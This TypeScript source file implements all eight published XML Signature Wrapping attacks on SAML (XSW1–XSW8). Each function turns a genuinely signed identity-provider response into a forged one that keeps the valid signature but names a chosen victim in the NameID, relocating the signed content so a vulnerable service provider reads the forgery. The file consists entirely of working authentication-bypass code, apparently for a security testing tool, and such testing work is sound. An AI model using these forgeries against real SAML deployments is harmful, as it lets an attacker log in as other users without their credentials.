/**
 * The eight published ways of wrapping a signature (Somorovsky et al., On Breaking SAML, 2012): what was
 * signed stays in the document, and what is read is something else.
 */

const ASSERTION = /<saml:Assertion[\s\S]*<\/saml:Assertion>/
const SIGNATURE = /<ds:Signature[\s\S]*?<\/ds:Signature>/

function part(pattern: RegExp, xml: string): string {
  const [found] = pattern.exec(xml) ?? []
  if (found === undefined) throw new Error(`the response has no ${pattern}`)
  return found
}

const without = (pattern: RegExp, xml: string) => xml.replace(part(pattern, xml), '')

/** The same for somebody else, under another id. */
const forged = (xml: string, victim: string) =>
  xml.replace(/(ID=")(_[ra])/g, '$1_evil$2').replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${victim}`)

const insideSignature = (signature: string, content: string) =>
  signature.replace('</ds:Signature>', `${content}</ds:Signature>`)

type Wrapping = {
  /** What the identity provider signed. */
  signed: 'assertion' | 'response'
  wrap: (xml: string, victim: string) => string
}

const withForgedResponse = (
  xml: string,
  victim: string,
  place: (signature: string, original: string) => string
) => {
  const signature = part(SIGNATURE, xml)
  const original = without(SIGNATURE, xml).replace(/^<\?xml[^>]*\?>/, '')
  return forged(original, victim).replace(
    '<samlp:Status>',
    `${place(signature, original)}<samlp:Status>`
  )
}

/** The forged assertion carries the signature of the original, which is put elsewhere. */
const withForgedAssertion = (
  xml: string,
  victim: string,
  place: (signature: string, original: string) => string
) => {
  const assertion = part(ASSERTION, xml)
  const original = without(SIGNATURE, assertion)
  const evil = forged(original, victim).replace(
    '<saml:Subject>',
    `${place(part(SIGNATURE, assertion), original)}<saml:Subject>`
  )
  return xml.replace(assertion, evil)
}

export const WRAPPINGS: Record<string, Wrapping> = {
  'XSW1: the signed response inside the signature of a forged one': {
    signed: 'response',
    wrap: (xml, victim) => withForgedResponse(xml, victim, insideSignature)
  },
  'XSW2: the signed response beside its signature, in a forged one': {
    signed: 'response',
    wrap: (xml, victim) =>
      withForgedResponse(xml, victim, (signature, original) => `${original}${signature}`)
  },
  'XSW3: a forged assertion before the signed one': {
    signed: 'assertion',
    wrap: (xml, victim) => {
      const assertion = part(ASSERTION, xml)
      return xml.replace(assertion, forged(without(SIGNATURE, assertion), victim) + assertion)
    }
  },
  'XSW4: the signed assertion inside a forged one': {
    signed: 'assertion',
    wrap: (xml, victim) => {
      const assertion = part(ASSERTION, xml)
      const evil = forged(without(SIGNATURE, assertion), victim)
      return xml.replace(
        assertion,
        evil.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`)
      )
    }
  },
  'XSW5: a forged assertion with the signature, the signed one at the end': {
    signed: 'assertion',
    wrap: (xml, victim) => {
      const original = without(SIGNATURE, part(ASSERTION, xml))
      return withForgedAssertion(xml, victim, (signature) => signature).replace(
        '</samlp:Response>',
        `${original}</samlp:Response>`
      )
    }
  },
  'XSW6: a forged assertion with the signature, the signed one inside that': {
    signed: 'assertion',
    wrap: (xml, victim) => withForgedAssertion(xml, victim, insideSignature)
  },
  'XSW7: a forged assertion in an extension': {
    signed: 'assertion',
    wrap: (xml, victim) => {
      const evil = forged(without(SIGNATURE, part(ASSERTION, xml)), victim)
      const extension = `<samlp:Extensions>${evil}</samlp:Extensions>`
      return xml.replace('<samlp:Status>', `${extension}<samlp:Status>`)
    }
  },
  'XSW8: the signed assertion in an object of the signature of a forged one': {
    signed: 'assertion',
    wrap: (xml, victim) =>
      withForgedAssertion(xml, victim, (signature, original) =>
        insideSignature(signature, `<ds:Object>${original}</ds:Object>`)
      )
  }
}
